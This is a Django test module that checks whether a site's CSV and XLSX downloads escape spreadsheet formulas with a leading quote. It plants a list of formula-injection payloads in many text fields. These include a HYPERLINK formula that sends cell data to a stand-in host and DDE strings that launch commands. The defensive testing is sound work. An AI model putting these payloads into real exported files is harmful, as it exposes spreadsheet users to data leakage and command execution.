"""Downloads are safe to open in a spreadsheet (issue 9, item 13): text that a spreadsheet
would read as a formula is written with a leading quote, in every CSV the site serves, while
numbers (negative ones too) stay numbers."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from django.apps import apps
from django.contrib.auth import get_user_model
from django.test import Client

from ambition.web.tables import XLSX_TYPE, Column, Table, spreadsheet_cell
from tests import test_permission_matrix
from tests.test_permission_matrix import MATRIX, sample_path

pytestmark = pytest.mark.django_db
people = test_permission_matrix.people  # the matrix's people, one for each role

# One hostile text per start a spreadsheet evaluates (OWASP's list).
HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
# The free text that people type or that files name, and that downloads show.
PLANTED = {
    "registry.Authority": ("name", "official_name"),
    "registry.Partnership": ("name",),
    "indicators.ServiceArea": ("name",),
    "indicators.Indicator": ("name", "source", "licence"),
    "indicators.ImportBatch": ("file_name", "reason"),
    "indicators.ImportJob": ("file_name",),
    "accounts.AuditEntry": ("username", "object_repr"),
    "accounts.ApiToken": ("name",),
    "assessment.Judgement": ("reason",),
    "assessment.RunRating": ("rule_text",),
    "assessment.RunTarget": ("target",),
    "support.LedgerEntry": ("description", "reason"),
    "support.SupportRequest": ("problem",),
    "support.OfferPerson": ("name", "role", "expertise"),
    "support.PeerReview": ("scope",),
    "support.StageChange": ("note",),
    "support.ReviewTeamMember": ("name", "party"),
    "support.ActionPlanItem": ("action", "owner"),
    "support.Secondment": ("role",),
    "support.Secondee": ("name",),
    "fund.Budget": ("name",),
    "fund.Claim": ("description", "reason"),
    "reports.Meeting": ("notes",),
    "reports.Attendee": ("name", "role"),
    "reports.AgreedAction": ("text", "owner"),
}


def plant_hostile_text() -> None:
    turn = 0
    for label, names in PLANTED.items():
        model = apps.get_model(label)
        for name in names:
            limit = model._meta.get_field(name).max_length or 500
            model._base_manager.update(**{name: HOSTILE[turn % len(HOSTILE)][:limit]})
            turn += 1
    get_user_model().objects.update(first_name=HOSTILE[0][:150], last_name=HOSTILE[3][:150])


def evaluated(cell: str) -> bool:
    """Whether a spreadsheet would evaluate the cell (a plain number is not a formula)."""
    return spreadsheet_cell(cell) != cell


# Every page the office reads (the API answers JSON only; the admin has no downloads).
OFFICE_PAGES = sorted(
    pattern
    for pattern, (_, allowed) in MATRIX.items()
    if "analyst" in allowed.get("GET", ()) and not pattern.startswith(("api/", "admin/"))
)


@pytest.mark.parametrize("pattern", OFFICE_PAGES)
def test_every_csv_download_writes_hostile_text_as_text(
    pattern: str, people: dict[str, Any]
) -> None:
    path = sample_path(pattern, people["analyst"])
    plant_hostile_text()
    client = Client()
    client.force_login(people["analyst"])
    response = client.get(f"{path}{'&' if '?' in path else '?'}format=csv")
    assert response.status_code < 500
    if not response.get("Content-Type", "").startswith("text/csv"):
        return  # not a table (a map, a PDF, a form)
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert [c for row in rows for c in row if evaluated(c)] == []


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7000 0000", "'+44 20 7000 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Lambeth", "Lambeth"),
        ("-3.5", "-3.5"),  # a negative number written as text is still a number
        ("+2", "+2"),
        ("-1e-3", "-1e-3"),
        (-3.5, -3.5),
        (Decimal("-12.50"), Decimal("-12.50")),
        (None, ""),
    ],
)
def test_a_cell_is_written_as_text_only_when_a_spreadsheet_would_evaluate_it(
    value: object, written: object
) -> None:
    assert spreadsheet_cell(value) == written


def test_a_table_writes_numbers_as_numbers_and_formulas_as_text() -> None:
    table = Table(
        "t",
        [Column("reason", "Reason"), Column("value", "Value")],
        [{"reason": '=HYPERLINK("http://x")', "value": Decimal("-4.2")}],
    )
    assert table.csv() == 'Reason,Value\r\n"\'=HYPERLINK(""http://x"")",-4.2\r\n'


def test_a_carriage_return_inside_a_cell_does_not_start_a_row() -> None:
    table = Table("t", [Column("note", "Note")], [{"note": "\r=1+1"}])
    assert list(csv.reader(io.StringIO(table.csv(), newline=""))) == [["Note"], ["'\r=1+1"]]


def test_a_table_downloads_as_a_spreadsheet_with_numbers_dates_and_formulas_as_text() -> None:
    table = Table(
        "a table with a name longer than a sheet may have",
        [Column("reason", "Reason"), Column("value", "Value"), Column("day", "Day")],
        [{"reason": "=1+1", "value": Decimal("-4.20"), "day": datetime.date(2026, 4, 1)}],
    )
    sheet = openpyxl.load_workbook(io.BytesIO(table.xlsx())).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == ["Reason", "Value", "Day"]
    assert rows[1][:2] == ["'=1+1", -4.2]
    assert rows[1][2].date() == datetime.date(2026, 4, 1)


def test_a_table_page_answers_xlsx(people: dict[str, Any]) -> None:
    client = Client()
    client.force_login(people["analyst"])
    response = client.get("/fund/budgets/", {"format": "xlsx"})
    assert response["Content-Type"] == XLSX_TYPE
    assert 'filename="budgets.xlsx"' in response["Content-Disposition"]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert next(sheet.iter_rows(values_only=True))[:2] == ("Budget", "Name")
